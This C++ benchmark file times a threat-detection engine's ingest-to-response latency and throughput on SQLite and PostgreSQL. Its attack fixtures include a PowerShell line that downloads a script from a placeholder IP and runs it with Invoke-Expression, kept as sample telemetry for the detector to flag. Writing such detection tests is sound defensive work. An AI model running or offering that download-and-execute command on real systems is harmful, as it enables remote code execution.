// Detection benchmarks (the whole shipped ATT&CK library, SQLite on the build disk,
// WAL, synchronous=FULL).
//   BM_TelemetryToCounterAgent: 10,000 attacks, each on a fresh agent; latency from
//     Detector::ingest (telemetry accepted) to the counter_agent.spawn broadcast
//     (counter-agent durable in the registry). Target p99 < 10 ms (seed: < 500 ms).
//   BM_TelemetryToCounterAgentConcurrent[Postgres]: the same sent by 8 sensors at
//     once, on SQLite and on a throw-away PostgreSQL cluster.
//   BM_Evaluate: the evaluate stage alone on a realistic mix (1 attack in 8 events);
//     events/s. Target >= 100,000 events/s on 2 cores.
//   BM_IngestBenign: decode + validate + agent lookup + evaluate on NDJSON batches of
//     benign telemetry; events/s.
#include <benchmark/benchmark.h>

#include <algorithm>
#include <chrono>
#include <atomic>
#include <filesystem>
#include <mutex>
#include <thread>
#include <unordered_map>

#include "detect/detect.h"
#include "mesh/mesh.h"
#include "registry/registry.h"
#include "registry/service.h"
#include "support/daemon.h"

namespace genesis::detect {
namespace {

using Clock = std::chrono::steady_clock;
using core::Value;

// The store of a fixture: SQLite in its temp dir, or a new database of one
// throw-away PostgreSQL cluster that this binary starts (stopped at exit).
std::unique_ptr<registry::Store> open_bench_store(const std::filesystem::path& dir, bool postgres) {
  if (!postgres) return registry::open_sqlite_store((dir / "bench.db").string()).value();
  static auto cluster = testing::PgCluster::start_private();
  if (auto why = cluster->unavailable()) {
    std::fprintf(stderr, "%s\n", why->c_str());
    std::abort();
  }
  return storage::open_store(cluster->new_database()).value();
}

struct Fixture {
  explicit Fixture(bool postgres = false) : store(open_bench_store(dir, postgres)) {}
  std::filesystem::path dir = genesis::testing::make_temp_dir("detect-bench");
  mesh::EventBus bus;
  std::unique_ptr<registry::Store> store;
  registry::Registry reg{*store, bus};
  std::unique_ptr<Detector> detector = Detector::create(reg, nullptr).value();
  ~Fixture() {
    detector.reset();
    store.reset();
    std::filesystem::remove_all(dir);
  }
  std::vector<std::string> spawn_agents(size_t n) {
    std::vector<std::string> ids;
    std::vector<registry::NewAgent> batch;
    for (size_t i = 0; i < n; ++i) {
      registry::NewAgent a;
      a.id = core::new_uuid();
      a.label = "agent" + std::to_string(i);
      a.mem_state = core::Object{{"task", "ingest"}};
      batch.push_back(a);
      ids.push_back(*a.id);
      if (batch.size() == 1000 || i + 1 == n) {
        (void)reg.spawn(registry::kDefaultTenant, batch);
        batch.clear();
      }
    }
    return ids;
  }
};

std::string event(const std::string& agent, const char* telemetry) {
  return R"({"agent_id":")" + agent + R"(","telemetry":)" + telemetry + "}";
}

const char* kAttacks[] = {
    R"({"event":"dns.response","domain":"a.suspicious.example","answer_count":40})",
    R"({"event":"process.inject","source_process":"loader.exe","target_process":"explorer.exe"})",
    R"j({"event":"exec.powershell","command":"Invoke-Expression (iwr http://203.0.113.9/a.ps1)"})j",
};

const char* kBenign[] = {
    R"({"event":"dns","dns":{"question":{"name":"www.example.com","type":"A"},"answers_count":1}})",
    R"({"event":"process.start","process":{"executable":"C:\\Windows\\System32\\svchost.exe","command_line":"C:\\Windows\\system32\\svchost.exe -k netsvcs -p","parent":{"executable":"C:\\Windows\\System32\\services.exe"}},"user":{"name":"SYSTEM"}})",
    R"({"event":"network.connection","destination":{"ip":"140.82.112.3","port":443},"network":{"transport":"tcp","direction":"egress"}})",
    R"({"event":"file","action":"modify","file":{"path":"C:\\Users\\alice\\Documents\\report.docx"}})",
    R"({"event":"registry","action":"set","registry":{"path":"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\MRU\\Item 1","data":{"strings":["C:\\Users\\alice\\Documents\\report.docx"]}}})",
    R"({"event":"process.start","process":{"executable":"C:\\Windows\\System32\\schtasks.exe","command_line":"schtasks /query /fo LIST /v","parent":{"executable":"C:\\Windows\\System32\\cmd.exe"}}})",
    R"({"event":"powershell.script_block","powershell":{"file":{"script_block_text":"Get-Service | Where-Object Status -eq Running"}}})",
};

// p50/p99/max of telemetry -> counter_agent.spawn, one latency per attack.
void report_latencies(benchmark::State& state, std::vector<double>& latencies_us, bool complete) {
  if (!complete) state.SkipWithError("an attack got no counter-agent");
  std::sort(latencies_us.begin(), latencies_us.end());
  auto pct = [&](double p) {
    return latencies_us.empty() ? 0 : latencies_us[static_cast<size_t>(p * (latencies_us.size() - 1))];
  };
  state.counters["p50_ms"] = pct(0.50) / 1000;
  state.counters["p99_ms"] = pct(0.99) / 1000;
  state.counters["max_ms"] = latencies_us.empty() ? 0 : latencies_us.back() / 1000;
  state.counters["attacks"] = static_cast<double>(latencies_us.size());
}

void BM_TelemetryToCounterAgent(benchmark::State& state) {
  const size_t n = static_cast<size_t>(state.range(0));
  Fixture f;
  std::vector<std::string> agents = f.spawn_agents(n);
  std::vector<double> latencies_us;
  latencies_us.reserve(n);
  Clock::time_point start;
  auto sub = f.bus.subscribe([&](const mesh::Event& e) {
    if (e.type == "counter_agent.spawn") {
      latencies_us.push_back(std::chrono::duration<double, std::micro>(Clock::now() - start).count());
    }
  });
  size_t failures = 0;
  for (auto _ : state) {
    for (size_t i = 0; i < n; ++i) {
      std::string body = event(agents[i], kAttacks[i % 3]);
      start = Clock::now();
      IngestResult r = f.detector->ingest(registry::kDefaultTenant, body);
      failures += r.counter_agents.size() != 1;
    }
  }
  report_latencies(state, latencies_us, failures == 0 && latencies_us.size() == n);
}
BENCHMARK(BM_TelemetryToCounterAgent)->Arg(10000)->Iterations(1)->Unit(benchmark::kMillisecond)->UseRealTime();

// The same 10,000 attacks sent by 8 sensors at once (each its own thread and
// agents): the response stage must not serialize the fleet behind one fsync.
// The Postgres variant: the same on a PostgreSQL store (one SERIALIZABLE
// transaction per response, Store::transact).
template <bool kPostgres>
void BM_TelemetryToCounterAgentConcurrent(benchmark::State& state) {
  const size_t n = static_cast<size_t>(state.range(0));
  const size_t senders = static_cast<size_t>(state.range(1));
  Fixture f(kPostgres);
  std::vector<std::string> agents = f.spawn_agents(n);
  std::unordered_map<std::string, size_t> index;
  for (size_t i = 0; i < n; ++i) index[agents[i]] = i;
  std::vector<std::atomic<int64_t>> start_ns(n);
  std::mutex mu;  // guards latencies_us (the broadcast may come from any committing thread)
  std::vector<double> latencies_us;
  latencies_us.reserve(n);
  auto sub = f.bus.subscribe([&](const mesh::Event& e) {
    if (e.type != "counter_agent.spawn") return;
    int64_t now = Clock::now().time_since_epoch().count();
    const Value* agent = e.data.find("agent_id");
    auto it = agent != nullptr && agent->is_string() ? index.find(agent->as_string()) : index.end();
    if (it == index.end()) return;
    double us = static_cast<double>(now - start_ns[it->second].load()) / 1000.0;
    std::lock_guard lock(mu);
    latencies_us.push_back(us);
  });
  std::atomic<size_t> failures{0};
  for (auto _ : state) {
    std::vector<std::thread> threads;
    for (size_t t = 0; t < senders; ++t) {
      threads.emplace_back([&, t] {
        for (size_t i = t; i < n; i += senders) {
          std::string body = event(agents[i], kAttacks[i % 3]);
          start_ns[i].store(Clock::now().time_since_epoch().count());
          IngestResult r = f.detector->ingest(registry::kDefaultTenant, body);
          if (r.counter_agents.size() != 1) failures.fetch_add(1);
        }
      });
    }
    for (auto& t : threads) t.join();
  }
  report_latencies(state, latencies_us, failures == 0 && latencies_us.size() == n);
  state.counters["attacks/s"] = benchmark::Counter(static_cast<double>(n), benchmark::Counter::kIsRate);
}
BENCHMARK(BM_TelemetryToCounterAgentConcurrent<false>)
    ->Name("BM_TelemetryToCounterAgentConcurrent")
    ->Args({10000, 8})
    ->Iterations(1)
    ->Unit(benchmark::kMillisecond)
    ->UseRealTime();
BENCHMARK(BM_TelemetryToCounterAgentConcurrent<true>)
    ->Name("BM_TelemetryToCounterAgentConcurrentPostgres")
    ->Args({10000, 8})
    ->Iterations(1)
    ->Unit(benchmark::kMillisecond)
    ->UseRealTime();

void BM_Evaluate(benchmark::State& state) {
  // Shared by the benchmark's threads; static initialization is thread-safe.
  static Fixture* f = new Fixture();
  static const std::vector<Value> events = [] {
    std::vector<Value> out;
    for (int i = 0; i < 8; ++i) {
      const char* t = i == 0 ? kAttacks[1] : kBenign[i % 7];  // first: a 1-iteration trial sees it
      out.push_back(validate_event(core::parse_json(event("a", t)).value()).value());
    }
    return out;
  }();
  size_t i = 0, found = 0;
  for (auto _ : state) {
    auto hits = f->detector->evaluate(events[i++ % events.size()]);
    found += hits.ok() ? hits->size() : 0;
  }
  if (found == 0) state.SkipWithError("no attack was detected");
  state.counters["events/s"] = benchmark::Counter(static_cast<double>(state.iterations()), benchmark::Counter::kIsRate);
}
BENCHMARK(BM_Evaluate)->Threads(1)->Threads(2)->UseRealTime();

void BM_IngestBenign(benchmark::State& state) {
  Fixture f;
  std::vector<std::string> agents = f.spawn_agents(100);
  std::string body;
  for (size_t i = 0; i < 1000; ++i) body += event(agents[i % agents.size()], kBenign[i % 7]) + "\n";
  size_t detections = 0;
  for (auto _ : state) {
    IngestResult r = f.detector->ingest(registry::kDefaultTenant, body);
    detections += r.detections.size();
    if (r.accepted != 1000) state.SkipWithError("events were refused");
  }
  if (detections != 0) state.SkipWithError("benign telemetry produced detections");
  state.counters["events/s"] =
      benchmark::Counter(static_cast<double>(state.iterations() * 1000), benchmark::Counter::kIsRate);
}
BENCHMARK(BM_IngestBenign)->Unit(benchmark::kMillisecond)->UseRealTime();

}  // namespace
}  // namespace genesis::detect

BENCHMARK_MAIN();
